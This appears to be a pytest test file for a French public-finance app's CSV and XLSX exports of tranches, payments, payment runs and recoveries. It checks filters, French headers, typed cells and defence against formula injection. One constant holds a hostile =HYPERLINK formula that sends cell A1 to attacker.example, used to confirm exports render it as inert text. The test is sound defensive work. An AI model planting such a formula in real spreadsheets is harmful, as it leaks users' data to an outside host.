"""The exports of finance's working lists (decision 0028): tranches, payments, payment runs and recoveries,
as CSV for French Excel and as XLSX, with the list's filters, French headers, typed cells, inert text."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from cnum_shared.testing import bearer

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Voir")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def books(feed, two_approved):
    """La Réunion's first tranche paid (its reference hostile) and one post ended early; Cantal's first
    tranche in a draft payment run."""
    reunion, cantal = (feed.call("GET", f"/tranches/{t['id']}", 200) for t in two_approved)
    feed.call(
        "POST",
        f"/tranches/{reunion['id']}/pay",
        201,
        {"paid_on": "2026-01-12", "reference": HOSTILE},
        sub="bruno",
        headers={"Idempotency-Key": "pay-reunion"},
    )
    convention = {"convention_id": reunion["convention_id"], "structure_id": reunion["structure_id"]}
    contract = feed.contract(convention, salary="1900.00", start=date(2025, 9, 1))
    feed.end_contract(contract, ended_on=date(2025, 11, 30))
    run = feed.call(
        "POST",
        "/payment-runs",
        201,
        {"execution_date": "2026-01-15", "tranche_ids": [cantal["id"]]},
        sub="bruno",
        headers={"Idempotency-Key": "run-cantal"},
    )
    return reunion, cantal, run


def export(feed, path, fmt, role="finance"):
    response = feed.client.get(
        f"/api/v1/{path}{'&' if '?' in path else '?'}format={fmt}", headers=bearer(role)
    )
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response


def csv_rows(response):
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]], rows[0]


def xlsx_sheet(response):
    assert response.mimetype == XLSX
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    return sheet, header, rows


def test_the_tranches_export_keeps_the_filters_and_types_its_cells(feed, books):
    reunion, _, _ = books
    path = f"tranches/export?structure_id={reunion['structure_id']}"

    sheet, header, rows = xlsx_sheet(export(feed, path, "xlsx"))
    listed, _ = csv_rows(export(feed, path, "csv", role="auditor"))

    assert header[:5] == ["Convention", "Structure", "Identifiant de la structure", "N° de tranche", "Nature"]
    assert "Échéance" in header and "Montant" in header
    assert (sheet.freeze_panes, sheet.auto_filter.ref[:2]) == ("A2", "A1")
    assert {row["Identifiant de la structure"].value for row in rows} == {reunion["structure_id"]}
    # Renewal in La Réunion, 2 posts: tranche 1 is 17 500 a post, 2 × 17 500 = 35 000.
    first = next(row for row in rows if row["Identifiant"].value == reunion["id"])
    assert first["Montant"].data_type == "n"
    assert Decimal(str(first["Montant"].value)) == Decimal(2 * 17_500).quantize(Decimal("0.01"))
    assert first["Montant"].number_format == '#,##0.00 "€"'
    assert isinstance(first["Échéance"].value, datetime)
    assert first["Échéance"].value.date() == date.fromisoformat(reunion["due_on"])
    assert first["Statut"].value == "payée"  # the status as a person reads it, not the code "paid"
    # The CSV holds the same rows, amounts and dates as French Excel reads them.
    in_the_list = feed.call("GET", f"/tranches?structure_id={reunion['structure_id']}&page_size=100", 200)
    assert [row["Identifiant"].value for row in rows] == [t["id"] for t in in_the_list]
    assert len(listed) == len(rows) < len(feed.call("GET", "/tranches?page_size=100", 200))
    one = next(row for row in listed if row["Identifiant"] == reunion["id"])
    assert one["Montant"] == "35000,00"
    assert one["Échéance"] == date.fromisoformat(reunion["due_on"]).strftime("%d/%m/%Y")


def test_the_payments_export_writes_a_hostile_reference_as_inert_text(feed, books):
    reunion, _, _ = books

    _, _, rows = xlsx_sheet(export(feed, "payments/export?status=paid", "xlsx"))
    listed, _ = csv_rows(export(feed, "payments/export", "csv"))

    [row] = rows
    assert row["Identifiant de la structure"].value == reunion["structure_id"]
    assert row["Référence du virement"].value == HOSTILE
    assert row["Référence du virement"].data_type == "s"  # a string, never a formula ("f")
    assert Decimal(str(row["Montant"].value)) == Decimal("35000.00")
    assert row["Payé le"].value == datetime(2026, 1, 12)
    [line] = listed
    assert line["Référence du virement"] == "'" + HOSTILE
    assert (line["Montant"], line["Payé le"], line["Payé par"]) == ("35000,00", "12/01/2026", "bruno")
    assert csv_rows(export(feed, "payments/export?status=returned", "csv"))[0] == []
    assert feed.call("GET", "/payments?status=paid", 200)[0]["reference"] == HOSTILE


def test_the_payment_runs_export_keeps_the_status_filter(feed, books):
    _, cantal, run = books

    _, _, drafts = xlsx_sheet(export(feed, "payment-runs/export?status=draft", "xlsx"))
    _, _, confirmed = xlsx_sheet(export(feed, "payment-runs/export?status=confirmed", "xlsx"))

    [row] = drafts
    assert confirmed == []
    assert row["Identifiant"].value == run["id"]
    assert row["Nombre de virements"].value == 1
    assert Decimal(str(row["Montant total"].value)) == Decimal(cantal["amount"])
    assert row["Date d'exécution"].value == datetime(2026, 1, 15)


def test_the_recoveries_export_lists_what_is_claimed_back(feed, books):
    _, _, rows = xlsx_sheet(export(feed, "recoveries/export?status=provisional", "xlsx"))
    listed, header = csv_rows(export(feed, "recoveries/export?kind=post_ended", "csv"))

    # The post was occupied 1 September – 30 November 2025: 3 months of year 2 at 12 500 ÷ 12 a month,
    # 3 125 earned of the 17 500 paid for it: 17 500 − 3 125 = 14 375 to pay back.
    expected = Decimal(17_500) - Decimal(3 * 12_500) / 12
    [row] = rows
    assert Decimal(str(row["Montant à reverser"].value)) == expected == Decimal("14375")
    assert row["Mois commencés"].value == 3
    assert [line["Montant à reverser"] for line in listed] == ["14375,00"]
    assert "Date limite de remplacement" in header
    assert xlsx_sheet(export(feed, "recoveries/export?status=received", "xlsx"))[2] == []
    assert feed.call("GET", "/recoveries?status=provisional", 200)[0]["recoverable"] == "14375.00"


def test_an_unknown_format_is_refused_and_a_structure_may_not_export(feed, books):
    refused = feed.call("GET", "/tranches/export?format=pdf", 422)
    assert "format" in refused["errors"]["query"]
    assert feed.call("GET", "/payments/export", 422)["errors"]["query"]["format"]
    feed.call(
        "GET", "/recoveries/export?format=csv", 403, role="structure", structure_id=books[0]["structure_id"]
    )
